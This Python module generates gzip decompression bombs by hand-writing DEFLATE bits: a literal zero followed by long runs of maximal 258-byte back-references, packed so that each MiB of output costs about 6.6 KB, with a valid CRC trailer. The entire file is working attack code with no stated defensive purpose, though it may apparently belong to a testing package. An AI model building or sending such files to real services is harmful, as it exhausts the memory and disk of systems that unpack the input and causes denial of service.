"""A gzip file that unpacks to far more than it takes, written bit by bit: no version of zlib shows (RFC 1951)."""

from __future__ import annotations

import struct
import zlib
from functools import cache

from .stored import HEADER

LONGEST = 258
"""Most bytes that one match repeats."""
HEAD, ZERO = "110", "00110000"
"""The last block, fixed codes; a literal zero. A number's bits go lowest first, a code's highest first."""
MATCH = "11000101" + "00000"
"""Repeat 258 bytes, from one byte back."""
END = "0000000"


def bomb(mib: int) -> bytes:
    """Return a gzip file of `mib` MiB of zeros; each of its MiB takes 6.6 KB."""
    size = mib << 20
    matches, rest = divmod(size - 1, LONGEST)
    head = HEAD + ZERO + MATCH * 8  # eight matches take whole bytes, 13, and all repeats from there
    whole = len(head) // 8 * 8
    period = (head[whole:] + MATCH * 8)[: 8 * len(MATCH)]
    rounds, left = divmod(matches - 8, 8)
    tail = (head[whole:] + MATCH * 8)[8 * len(MATCH) :] + MATCH * left + ZERO * rest + END
    body = _bytes(head[:whole]) + _bytes(period) * rounds + _bytes(tail)
    return HEADER + body + struct.pack("<2I", _crc_of_zeros(size), size & 0xFFFFFFFF)


def _bytes(bits: str) -> bytes:
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[at : at + 8][::-1], 2) for at in range(0, len(bits), 8))


@cache
def _crc_of_zeros(size: int) -> int:
    check, zeros = 0, bytes(1 << 20)
    for _ in range(size >> 20):
        check = zlib.crc32(zeros, check)
    return check
